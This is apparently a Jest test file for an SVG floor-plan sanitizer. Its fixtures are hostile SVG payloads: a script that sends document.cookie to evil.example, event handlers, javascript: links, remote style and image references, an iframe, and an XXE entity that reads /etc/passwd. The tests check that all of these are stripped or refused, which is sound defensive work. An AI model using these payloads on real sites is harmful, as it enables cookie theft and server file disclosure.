import { sanitizeSvg, SvgRefusedError } from '../../src/use-cases/svg-sanitizer';

const MALICIOUS = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 400 220" onload="alert(1)">
  <script type="text/javascript">fetch('https://evil.example/?c=' + document.cookie)</script>
  <defs><linearGradient id="g"><stop offset="0" stop-color="#eee"/></linearGradient></defs>
  <style>@import url(https://evil.example/x.css); rect { fill: red }</style>
  <rect id="wall" x="0" y="0" width="400" height="220" fill="url(#g)" stroke="#333" onclick="steal()"/>
  <rect x="10" y="10" width="5" height="5" fill="url(https://evil.example/track.svg#p)" style="filter:url(https://evil.example/f)"/>
  <path d="M10 10 L 390 10" stroke-width="0.2" style="stroke: #444"/>
  <image href="https://evil.example/tracker.png" width="1" height="1"/>
  <use xlink:href="https://evil.example/sprite.svg#desk"/>
  <use href="#wall" x="5"/>
  <a href="javascript:alert(1)"><text x="5" y="5">Click</text></a>
  <foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"></iframe></foreignObject>
  <text x="20" y="200" font-size="8">Kitchen &amp; coffee &#x2615;</text>
  <animate attributeName="href" to="javascript:alert(1)"/>
  <set attributeName="onmouseover" to="alert(1)"/>
</svg>`;

describe('an uploaded SVG floor plan is rebuilt from an allow-list', () => {
  it('keeps the drawing and drops script, event handlers, external references, links, styles sheets and embedded documents', () => {
    const { svg, removed } = sanitizeSvg(MALICIOUS);
    expect(svg).not.toMatch(/script|onload|onclick|onmouseover|evil\.example|javascript|foreignObject|iframe|<image|<style|@import|<a |<animate|<set /i);
    expect(svg).toContain('<rect id="wall" x="0" y="0" width="400" height="220" fill="url(#g)" stroke="#333"/>');
    expect(svg).toContain('<path d="M10 10 L 390 10" stroke-width="0.2" style="stroke: #444"/>');
    expect(svg).toContain('<use href="#wall" x="5"/>');
    expect(svg).toContain('<text x="20" y="200" font-size="8">Kitchen &amp; coffee \u2615</text>');
    expect(svg.startsWith('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 400 220">')).toBe(true);
    expect(removed).toEqual(expect.arrayContaining(['onload', '<script>', '<style>', 'onclick', 'fill', 'style', '<image>', 'xlink:href', '<a>', '<foreignObject>', '<animate>', '<set>']));
  });

  it.each([
    ['a DOCTYPE with an entity (billion laughs, external entities)', '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'],
    ['an unknown entity', '<svg><text>&x;</text></svg>'],
    ['CDATA', '<svg><script><![CDATA[alert(1)]]></script></svg>'],
    ['a root that is not svg', '<html><svg/></html>'],
    ['a tag never closed', '<svg><g><rect/></svg>'],
    ['an attribute without quotes', '<svg><rect width=10/></svg>'],
    ['a "<" inside an attribute', '<svg><rect id="a<b"/></svg>'],
    ['two roots', '<svg/><svg/>'],
    ['text outside the root', 'hello<svg/>'],
    ['a processing instruction inside', '<svg><?php evil() ?></svg>'],
  ])('refuses %s', (_what, text) => {
    expect(() => sanitizeSvg(text)).toThrow(SvgRefusedError);
  });

  it('does not let markup hidden in a dropped element or an attribute come back', () => {
    const { svg } = sanitizeSvg('<svg><title>a &lt;script&gt;alert(1)&lt;/script&gt;</title><rect class="&quot; onload=&quot;x"/></svg>');
    expect(svg).toBe('<svg xmlns="http://www.w3.org/2000/svg"><title>a &lt;script&gt;alert(1)&lt;/script&gt;</title><rect class="&quot; onload=&quot;x"/></svg>');
  });
});
